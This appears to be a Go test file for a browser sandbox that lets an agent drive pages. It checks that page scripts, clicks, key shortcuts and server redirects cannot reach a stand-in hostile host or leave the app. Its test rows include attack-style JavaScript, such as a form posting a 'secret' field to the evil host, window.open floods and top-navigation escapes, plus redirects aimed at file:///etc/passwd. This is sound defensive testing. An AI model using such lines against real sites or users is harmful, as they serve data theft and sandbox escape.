//go:build linux

package attack

import (
	"maps"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/pillion-browser/pillion/sidecar/internal/apptest"
)

// Words in scripts that stand for addresses, different ones for each row, so
// that what arrives late still tells where it comes from.
//
//	EVIL      a page of a public server that is not the app
//	EVILNAME  its host alone
//	PUBLIC    the same, of a name from which the row may load something
//	APP       the app's origin
//	PORT      a page on another port of the app's host
//	ROW       the row's id
func (e *scene) fill(text string, r row) string {
	return strings.NewReplacer(
		"EVILNAME", e.evil(r), "EVIL", "http://"+e.evil(r)+"/", "PUBLIC", "http://"+e.token(r)+".public.test/",
		"APP", e.origin(), "PORT", otherPort+"/", "ROW", r.ID).Replace(text)
}

// otherPort is an origin of the app's host that is not the app.
const otherPort = "http://127.0.0.1:7001"

// evil is the host that a row must not reach.
func (e *scene) evil(r row) string { return e.token(r) + ".evil.test" }

// token names a row in one browser.
func (e *scene) token(r row) string { return strings.ToLower(r.ID) + "-" + e.flavour }

// scripts are the rows of pages in words a browser understands. A row without an
// entry is a script by itself.
func scripts() map[string]string {
	return map[string]string{
		"S136": `location.href = 'EVIL'`,
		"S137": `window.open('EVIL')`,
		"S138": `window.open('EVIL', '_blank', 'noopener')`,
		"S139": `document.body.innerHTML = '<a id=a target=_blank href=EVIL>x</a>'; a.click()`,
		"S140": `document.head.innerHTML = '<meta http-equiv=refresh content="0;url=EVIL">'`,
		"S141": `document.body.innerHTML = '<form id=f method=POST action=EVIL><input name=secret value=1></form>'; f.submit()`,
		"S142": `document.body.innerHTML = '<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location=\'EVIL\'</script>"></iframe>'`,
		"S143": `let w = window.open(''); w.location = 'EVIL'`,
		"S144": `document.body.innerHTML = '<a id=target href=EVIL>x</a>'`,
		"S145": `document.body.innerHTML = '<a id=target href=EVIL>x</a>'`,
		"S146": `document.body.innerHTML = '<iframe src=PUBLIC></iframe>'; await new Promise((ok) => { document.querySelector('iframe').onload = ok; })`,
		"S147": `let w = window.open('about:blank'); w.document.write('<title>written</title>'); w.document.close(); if (w.document.title !== 'written' || w.origin !== origin) throw new Error('not written')`,
		"S148": `navigation.navigate('EVIL').finished.catch(() => {})`,
		"S149": `for (let i = 0; i < 15; i++) window.open('EVIL' + i)`,
		"S150": `const rules = document.createElement('script'); rules.type = 'speculationrules';
			rules.textContent = JSON.stringify({prerender: [{source: 'list', urls: ['/redirect/302?to=' + encodeURIComponent('PORT')]}]});
			document.head.append(rules); await new Promise((ok) => setTimeout(ok, 2000));
			document.body.innerHTML = '<a id=target href="/redirect/302?to=' + encodeURIComponent('PORT') + '">x</a>'`,
		"S151": `location = URL.createObjectURL(new Blob(['<title>blob</title><h1>blob</h1>'], {type: 'text/html'}))`,
	}
}

// clicks are what an agent does after the script, with #target.
func clicks() map[string]apptest.Args {
	return map[string]apptest.Args{
		"S144": {"modifiers": []string{"Control"}},
		"S145": {"button": "middle"},
		"S150": {},
	}
}

// pageNavigation runs a row of what a page may do to itself and to new windows.
//
// How it is to be done: "click", "press", "drop", "shortcuts": the agent does so,
// with #target, after the script. What is to be seen: "quiet": the page is stopped
// before anybody hears of it; "either": or not, as the browser likes; "moves": the
// tab goes elsewhere on the app; "port", "https", "tls": what is refused is not
// EVIL; "blank": it is a blank window, which another site has in its hands.
func pageNavigation(t *testing.T, e *scene, r row) {
	e.needWorld(t)
	script, known := scripts()[r.ID]
	if !known {
		script = r.Input
	}
	how := func(word string) bool { return strings.Contains(r.How, word) }
	c := e.open(t, "/leave?to=x&row="+r.ID)
	before := mark(e.world)
	first := c.Call("browser_evaluate", apptest.Args{"function": "async () => { " + e.fill(script, r) + " }"})
	said := first.Text
	act := func(tool string, args apptest.Args) {
		got := c.Call(tool, args)
		stopped := strings.Contains(got.Text, ", outside the sandbox app, and was closed") || strings.Contains(got.Text, "takes no drop of this kind")
		if got.IsError && !stopped {
			t.Errorf("%s could not be done: %s", tool, got.Text)
		}
		said += got.Text
	}
	if args, ok := clicks()[r.ID]; ok || how("click") {
		click := apptest.Args{"target": "#target"}
		maps.Copy(click, args)
		act("browser_click", click)
	}
	if how("press") {
		act("browser_press_key", apptest.Args{"key": "Control+Enter"})
	}
	if how("drop") {
		url := e.fill(r.Why[strings.LastIndex(r.Why, " ")+1:], r)
		act("browser_drop", apptest.Args{"target": "#target", "data": apptest.Args{"text/uri-list": url, "text/plain": url, "text/html": "<a href='" + url + "'>x</a>"}})
	}
	if how("shortcuts") {
		for _, key := range shortcuts() {
			act("browser_press_key", apptest.Args{"key": key})
		}
	}
	if r.allowed() {
		if first.IsError {
			t.Errorf("the page could not do it: %s", first.Text)
		}
		if strings.Contains(script, "PUBLIC") {
			apptest.Await(t, "the request to the public server", func() bool {
				return len(e.world.far.since(0, asked(e.token(r)+".public.test"))) > 0
			})
		}
		e.onApp(t, c)
		return
	}
	target := "http://" + e.evil(r)
	switch {
	case how("blank"):
		target = "http://" + e.token(r) + ".public.test"
	case how("tls"):
		target = "https://" + e.evil(r)
	case how("https"):
		target = "https://" + e.appHost
	case strings.Contains(script+r.Why, "PORT"):
		target = otherPort
	}
	if how("quiet") || how("either") {
		time.Sleep(quietTime)
	} else {
		e.toldOf(t, "navigation", target)
	}
	if strings.Contains(said, apptest.Mark) {
		t.Errorf("the answer holds the foreign page:\n%s", said)
	}
	if how("blank") {
		apptest.Await(t, "the end of the blank window", func() bool { return len(tabLines(c)) == 1 })
	}
	e.onApp(t, c)
	if lines := strings.Join(tabLines(c), "\n"); !how("moves") && !strings.Contains(lines, "row="+r.ID) {
		t.Errorf("the app's tab did not keep its page: %s", lines)
	}
	before.without(t, e, r)
	if how("quiet") {
		e.obeys(t)
	}
}

// obeys: what the page did has put nothing between the agent and its pages.
func (e *scene) obeys(t *testing.T) {
	t.Helper()
	c := e.open(t, "/leave?to=x")
	evaluate(t, c, `() => { document.body.innerHTML = '<button id=b onclick="this.textContent = 1">0</button>' }`)
	c.Must("browser_click", apptest.Args{"target": "#b"})
	if got := evaluate(t, c, "() => b.textContent"); got != `"1"` {
		t.Errorf("a click does nothing any more: %s", got)
	}
}

// shortcuts are keys by which browsers open windows, files, tools and pages of
// their own.
func shortcuts() []string {
	return []string{
		"Control+u", "Control+o", "Control+s", "Control+p", "Control+t", "Control+n", "Control+Shift+n", "F12", "Control+Shift+i",
		"Control+Shift+j", "Control+l", "Control+h", "Control+j", "Control+d", "F6", "Alt+Home", "Control+Shift+t", "Control+Shift+Delete",
		"F11", "F3", "Shift+Escape", "Alt+f", "F1", "Control+Shift+o", "Meta+t", "F10", "ContextMenu", "Alt+d", "Escape",
	}
}

// quietTime is given to a page whose attempt nobody hears of.
const quietTime = 500 * time.Millisecond

// without fails the test when anything has gone where the row must not go: a
// request, a connection, or the question for a name.
func (m moment) without(t *testing.T, e *scene, r row) {
	t.Helper()
	for _, a := range e.world.far.since(m.far, asked(e.evil(r))) {
		t.Errorf("arrived: %v", a)
	}
	for _, a := range e.world.near.since(m.near, nil) {
		t.Errorf("arrived: %v", a)
	}
	if n := e.world.names.questions(e.evil(r)); n > 0 {
		t.Errorf("its name was asked for %d times", n)
	}
}

// redirects are the rows of redirects as paths of the app. A row without an
// entry is the Location itself.
func redirects() map[string]string {
	to := func(code, target string) string { return "/redirect/" + code + "?to=" + target }
	return map[string]string{
		"S181": to("301", "EVIL"), "S182": to("302", "EVIL"), "S183": to("303", "EVIL"),
		"S184": to("307", "EVIL"), "S185": to("308", "EVIL"),
		"S186": "/redirect/chain?n=3&to=EVIL",
		"S187": to("302", "file:///etc/passwd"), "S188": to("302", "data:text/html,hi"), "S189": to("302", "chrome://version"),
		"S190": to("307", "EVIL"),
		"S191": to("302", "/lab"),
	}
}

// redirect runs a row of where the app's server sends the browser: by an agent's
// navigation, by a link of the page, and by a form that posts.
func redirect(t *testing.T, e *scene, r row) {
	e.needWorld(t)
	path, known := redirects()[r.ID]
	if !known {
		path = "/redirect/302?to=" + url.QueryEscape(e.fill(r.Input, r))
	}
	path = e.fill(path, r)
	// Chromium itself refuses to be sent to what is no web page.
	broken := r.How == "broken" || r.ID == "S187" || r.ID == "S188" || r.ID == "S189"
	before := mark(e.world)
	for _, way := range []string{"navigate", "link", "form"} {
		c := e.open(t, "/leave?to=x&row="+r.ID)
		var got apptest.Result
		switch way {
		case "navigate":
			got = c.Call("browser_navigate", apptest.Args{"url": path})
		case "link":
			evaluate(t, c, `() => { document.body.innerHTML = '<a id=target>x</a>'; target.href = `+quoted(path)+` }`)
			got = c.Call("browser_click", apptest.Args{"target": "#target"})
		case "form":
			evaluate(t, c, `() => { document.body.innerHTML = '<form id=f method=POST><button id=target>x</button><input name=secret value=1></form>'; f.action = `+quoted(path)+` }`)
			got = c.Call("browser_click", apptest.Args{"target": "#target"})
		}
		if r.allowed() {
			if got.IsError || r.How != "path" && !strings.Contains(strings.Join(tabLines(c), ""), "/lab)") {
				t.Errorf("%s: refused: %s %q", way, got.Text, tabLines(c))
			}
			e.onApp(t, c)
			continue
		}
		if !got.IsError && (way == "navigate" || !broken) {
			t.Errorf("%s: no error:\n%s", way, got.Text)
		}
		e.onApp(t, c)
		if broken {
			continue // Chromium shows its error page
		}
		if !strings.Contains(got.Text, ", outside the sandbox app, and was closed") {
			t.Errorf("%s: the refusal is not told:\n%s", way, got.Text)
		}
		if lines := strings.Join(tabLines(c), ""); !strings.Contains(lines, "row="+r.ID) {
			t.Errorf("%s: the tab did not keep its page: %q", way, lines)
		}
	}
	if !r.allowed() {
		before.without(t, e, r)
	}
}
